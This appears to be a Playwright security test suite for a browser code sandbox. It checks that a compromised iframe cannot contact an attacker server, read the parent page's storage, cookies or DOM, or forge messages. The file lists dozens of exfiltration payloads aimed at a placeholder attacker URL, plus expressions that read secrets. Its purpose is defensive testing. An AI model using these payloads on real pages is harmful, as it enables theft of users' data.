import { expect } from '@playwright/test';
import { attempt, KEY, takenFrame, test } from '../support/attack-test.ts';
import { startAttacker } from '../support/attacker.ts';

/** The frame's document in the attacker's hands: one wall further in than any program gets. */
const EXPRESSIONS: Record<string, string> = {
	fetch: "fetch('ATTACKER')",
	'a beacon': "navigator.sendBeacon('ATTACKER', 'x')",
	WebSocket:
		"new Promise((_, reject) => { new WebSocket('ATTACKER'.replace('http', 'ws')).onerror = reject; })",
	EventSource: "new Promise((_, reject) => { new EventSource('ATTACKER').onerror = reject; })",
	'an image':
		"new Promise((_, reject) => { const i = new Image(); i.onerror = reject; i.src = 'ATTACKER'; })",
	'a style sheet':
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'ATTACKER/x.css' }))",
	'a style':
		"document.body.append(Object.assign(document.createElement('style'), { textContent: '@import url(ATTACKER/x.css); body { background: url(ATTACKER/b) }' }))",
	'a style attribute': "document.body.setAttribute('style', 'background: url(ATTACKER/b)')",
	'a style through its object': "(() => { document.body.style.background = 'url(ATTACKER/b)'; })()",
	'a script':
		"document.head.append(Object.assign(document.createElement('script'), { src: 'ATTACKER/x.js' }))",
	'an inline script':
		"document.head.append(Object.assign(document.createElement('script'), { textContent: 'fetch(\"ATTACKER\")' }))",
	'a nested document':
		"document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=ATTACKER>' }))",
	'an object':
		"document.body.append(Object.assign(document.createElement('object'), { data: 'ATTACKER' }))",
	'an embedded thing':
		"document.body.append(Object.assign(document.createElement('embed'), { src: 'ATTACKER' }))",
	'a film':
		"document.body.append(Object.assign(document.createElement('video'), { src: 'ATTACKER', autoplay: true }))",
	'a prefetch':
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'ATTACKER' }))",
	'a preload':
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href: 'ATTACKER/x.js' }))",
	'a form':
		"(() => { const f = Object.assign(document.createElement('form'), { action: 'ATTACKER', method: { id: 'post', revision: 1 } }); document.body.append(f); f.submit(); })()",
	'a new window': "String(window.open('ATTACKER'))",
	'navigation of the page': "(() => { top.location.href = 'ATTACKER'; })()",
	'a link with a ping':
		"(() => { const a = Object.assign(document.createElement('a'), { href: '#x', ping: 'ATTACKER' }); document.body.append(a); a.click(); })()",
	'a font': "new FontFace('x', 'url(ATTACKER/font)').load()",
	'a module worker':
		"new Promise((_, reject) => { new Worker('ATTACKER/x.js', { type: 'module' }).onerror = () => reject('no worker'); })",
};

for (const [name, expression] of Object.entries(EXPRESSIONS)) {
	test(`a taken frame: ${name}`, async ({ victim, attacker }) => {
		const code = expression.replaceAll('ATTACKER', attacker.url);
		await attempt(takenFrame(victim), code).catch(() => {});
	});
}

const SECRETS: Record<string, string> = {
	"the page's document": 'parent.document.body.innerHTML',
	"the page's storage": 'parent.localStorage.getItem("key")',
	"the page's functions": 'parent.createSandbox',
	'its own storage': 'localStorage.getItem("key")',
	'its own cookies': 'document.cookie',
	IndexedDB:
		"new Promise((resolve, reject) => { const o = indexedDB.open('x'); o.onsuccess = resolve; o.onerror = () => reject('no'); })",
	CacheStorage: 'caches.keys()',
	'the private file system': 'navigator.storage.getDirectory()',
};

for (const [name, expression] of Object.entries(SECRETS)) {
	test(`a taken frame: ${name}`, async ({ victim }) => {
		const came = await attempt(takenFrame(victim), expression);
		expect(came).toMatch(/^blocked: /);
		expect(came).not.toContain(KEY);
	});
}

test('a taken frame: forged messages to the page', async ({ victim, run }) => {
	await attempt(
		takenFrame(victim),
		`(() => { for (let id = 0; id < 200; id++) for (const to of [parent, top]) {
			to.postMessage({ type: 'end', id, report: '{"ending":"ok"}', seconds: 0 }, '*');
			to.postMessage({ type: 'output', id, text: 'forged' }, '*'); } })()`,
	);
	expect(await run('print("true")')).toMatchObject({ ending: 'ok', output: 'true\n' });
});

/** Chromium opens a bare connection before it reads the policy: nothing is said over it. */
const BARE: Record<string, string> = {
	'another frame':
		"document.body.append(Object.assign(document.createElement('iframe'), { src: 'ATTACKER' }))",
	'navigation by a refresh':
		"document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=ATTACKER' }))",
	navigation: "(() => { location.href = 'ATTACKER'; })()",
};

for (const [name, expression] of Object.entries(BARE)) {
	test(`a taken frame: ${name} asks nothing`, async ({ victim, run }) => {
		const attacker = await startAttacker();
		const code = expression.replaceAll('ATTACKER', attacker.url);
		await attempt(takenFrame(victim), code).catch(() => {});
		await new Promise((resolve) => setTimeout(resolve, 300));
		expect(attacker.arrived.filter((what) => what !== 'connection')).toEqual([]);
		await attacker.close();
		// A frame that went away is replaced.
		await expect(async () =>
			expect(await run('print(1)')).toMatchObject({ output: '1\n' }),
		).toPass();
	});
}
